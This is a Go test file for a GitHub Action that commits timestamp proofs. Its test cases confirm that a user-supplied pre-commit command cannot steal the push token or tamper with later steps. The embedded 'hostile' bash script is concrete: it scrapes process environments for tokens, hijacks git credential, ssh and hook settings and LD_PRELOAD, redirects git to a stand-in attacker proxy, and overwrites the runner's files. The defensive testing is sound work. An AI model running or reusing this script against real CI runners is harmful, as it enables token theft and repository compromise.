package action

import (
	"errors"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
)

// hostile is a command that looks for a token wherever another process might
// have one, tries to have later steps run programs of its own, and turns git's
// requests to somebody else.
const hostile = `
cat >LOOT/program <<'END'
#!/bin/bash
PATH=/usr/bin:/bin
echo "ran in $GITHUB_ACTION: $0 $*" >>LOOT/ran
look() {
	for p in /proc/[0-9]*; do
		tr '\0' '\n' <"$p/environ"
		tr '\0' ' ' <"$p/cmdline"
		echo
	done
}
look >>LOOT/processes 2>/dev/null
setsid timeout 20 bash -c "$(declare -f look); while :; do look; done" >>LOOT/late 2>/dev/null </dev/null &
work=$(dirname "$GITHUB_EVENT_PATH")
for name in BASH_ENV LD_PRELOAD GIT_SSH_COMMAND GIT_ASKPASS GIT_PROXY_COMMAND; do echo "$name=LOOT/program" >>"$work/envs.txt"; done
printf '%s\n' GIT_TRACE=LOOT/trace GIT_TRACE_CURL=LOOT/trace GIT_CURL_VERBOSE=1 GIT_CONFIG_GLOBAL=LOOT/config GIT_EXEC_PATH=LOOT/hooks \
	https_proxy=http://EVIL HTTPS_PROXY=http://EVIL no_proxy= NO_PROXY= GITHUB_SERVER_URL=http://EVIL >>"$work/envs.txt"
echo LOOT/hooks >>"$work/pathcmd.txt"
printf 'publish=true\nextra=LOOT/extra\n' >>"$work/outputcmd.txt"
echo injected >>"$work/SUMMARY.md"
[ -t 0 ] || cat
END
chmod +x LOOT/program
printf '[url "http://EVIL/"]\n\tinsteadOf = SERVER\n[http]\n\tproxy = http://EVIL\n' >LOOT/config
mkdir -p LOOT/hooks "$HOME" "$XDG_CONFIG_HOME/git"
cp LOOT/config "$HOME/.gitconfig"
cp LOOT/config "$XDG_CONFIG_HOME/git/config"
for name in git bash sh sha256sum shasum env pre-push pre-commit reference-transaction post-index-change; do cp LOOT/program LOOT/hooks/$name; done
cp LOOT/hooks/pre-push LOOT/hooks/reference-transaction .git/hooks/
git config url."http://EVIL/".insteadOf SERVER
git config http.proxy http://EVIL
git config http.SERVER/.proxy http://EVIL
git config http.sslVerify false
for key in credential.helper core.sshCommand core.askPass core.fsmonitor gpg.program filter.evil.clean uploadpack.packObjectsHook; do git config "$key" LOOT/program; done
git config core.hooksPath LOOT/hooks
git config commit.gpgSign true
git config user.signingKey ABCDEF
echo '*.json filter=evil' >>.git/info/attributes
env | grep -E '^(GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT|GITHUB_STATE|GITHUB_STEP_SUMMARY)=' >LOOT/files
echo changed >index.json
mkdir -p .github/workflows
echo 'on: push' >.github/workflows/evil.yml
echo '*.ots text' >.gitattributes
LOOT/program </dev/null
`

// hostileCommand runs it before a delivery: it finds no token, and nothing that
// it planted is run, asked or committed.
func hostileCommand(delivery string) func(*world) {
	return func(w *world) {
		evil, loot := newListener(w), w.TempDir()
		w.write("index.json", "{}\n")
		w.commit("Add an index")
		w.push()
		w.mine()
		before := w.host.head("main")
		script := strings.NewReplacer("LOOT", loot, "EVIL", evil.address, "SERVER", w.host.url).Replace(hostile)
		l := w.act(w.scheduled(map[string]string{
			"before_commit": script, "before_commit_paths": "index.json\n.github/**\n.gitattributes", "commit": delivery,
		}))
		l.want(true)
		w.plundered(loot)
		if met := evil.met(); len(met) > 0 {
			w.Errorf("somebody else was asked: %q", met)
		}
		if strings.Contains(l.summary(), "injected") {
			w.Error("the command wrote to the summary")
		}
		if delivery == "pull-request" {
			w.host.git("-C", w.host.bare, "update-ref", "refs/heads/main", "git-anchor/proofs")
		}
		w.committed(before, path(2)+".ots", "index.json")
		for _, r := range w.host.asked("git-receive-pack|/api/") {
			if r.token != w.host.mayWrite {
				w.Errorf("%s came with another token", r.what)
			}
		}
	}
}

// plundered fails the test if the command got hold of a token or of the runner's
// files, or if a program of its own ran where the token is.
func (w *world) plundered(loot string) {
	w.Helper()
	for _, name := range []string{"processes", "late", "trace"} {
		found := readIfThere(w, filepath.Join(loot, name))
		if strings.Contains(found, w.host.mayWrite) || strings.Contains(found, basic(w.host.mayWrite)) {
			w.Errorf("the token is in %s", name)
		}
		if name == "processes" && !strings.Contains(found, "GITHUB_REPOSITORY="+repository) {
			w.Error("the command could not look at other processes: nothing is shown")
		}
	}
	// git looks for changes with the command's own filters, in the command's step.
	ran := readIfThere(w, filepath.Join(loot, "ran"))
	if strings.Contains(ran, "ran in commit") || strings.Count(ran, "ran in before") < 2 {
		w.Errorf("of the command's programs there ran:\n%s", ran)
	}
	if files := readIfThere(w, filepath.Join(loot, "files")); files != "" {
		w.Errorf("the command was told of the runner's files: %s", files)
	}
}

// tampers has the command write over what the next step takes from this one.
func tampers(w *world) {
	w.mine()
	before, loot := w.host.head("main"), w.TempDir()
	for name, script := range map[string]string{
		"program": `printf '#!/bin/sh\nenv >LOOT/ran\n' >LOOT/program; chmod +x LOOT/program; for f in $(find "$RUNNER_TEMP" -name 'git-anchor' -type f); do cp LOOT/program "$f.new"; mv -f "$f.new" "$f"; done`,
		"plan":    `for f in $(find "$RUNNER_TEMP" -name '*plan*' -type f); do sed -i 's/lip-0002/lip-0001/g' "$f" && touch LOOT/found; done`,
	} {
		l := w.act(w.scheduled(map[string]string{
			"before_commit": strings.ReplaceAll(script, "LOOT", loot), "before_commit_paths": "index.json",
		}))
		l.want(false)
		l.says("^::error .*")
		if head := w.host.head("main"); head != before {
			w.Errorf("%s: main has moved to %s", name, head)
		}
	}
	if ran := readIfThere(w, filepath.Join(loot, "ran")); ran != "" {
		w.Errorf("the command's program was run:\n%s", ran)
	}
	if _, err := os.Stat(filepath.Join(loot, "found")); err != nil {
		w.Errorf("there was no plan to write over: %v", err)
	}
}

// ownCommand is what before_commit is for: a registry's index joins the commit
// that the proofs are in, from the configuration where the workflow allows it.
func ownCommand(w *world) {
	w.write("index.json", "{}\n")
	w.write(".git-anchor.toml", "[[documents]]\nkind = \"lip\"\npaths = [\"content/spec/lips/lip-????.md\"]\n\n[action]\nbefore_commit = \"ls content/spec/lips >index.json; touch left-out\"\nbefore_commit_paths = [\"index.json\"]\n")
	w.commit("Add an index")
	w.push()
	w.mine()
	before := w.host.head("main")
	w.act(w.scheduled(map[string]string{"allow_commands": "true", "signoff": "true"})).want(true)
	w.committed(before, path(2)+".ots", "index.json")
	if index := string(w.host.show("main", "index.json")); !strings.Contains(index, "lip-0002.md\n") {
		w.Errorf("the index is %q", index)
	}
	if body := w.host.git("-C", w.host.bare, "log", "-1", "--format=%b", "main"); !strings.Contains(body, "Signed-off-by: "+bot) {
		w.Errorf("no sign-off: %q", body)
	}
}

func readIfThere(w *world, file string) string {
	w.Helper()
	data, err := os.ReadFile(file)
	if err != nil && !errors.Is(err, fs.ErrNotExist) {
		w.Fatal(err)
	}
	return string(data)
}

// A listener is somebody else's server: it notes who connects.
type listener struct {
	address string
	mu      sync.Mutex
	heard   []string
}

func newListener(w *world) *listener {
	w.Helper()
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		w.Fatal(err)
	}
	w.Cleanup(func() { tcp.Close() })
	l := &listener{address: tcp.Addr().String()}
	go func() {
		for {
			conn, err := tcp.Accept()
			if err != nil {
				return // closed
			}
			first := make([]byte, 200)
			n, _ := conn.Read(first)
			l.mu.Lock()
			l.heard = append(l.heard, string(first[:n]))
			l.mu.Unlock()
			conn.Close()
		}
	}()
	return l
}

func (l *listener) met() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return slices.Clone(l.heard)
}
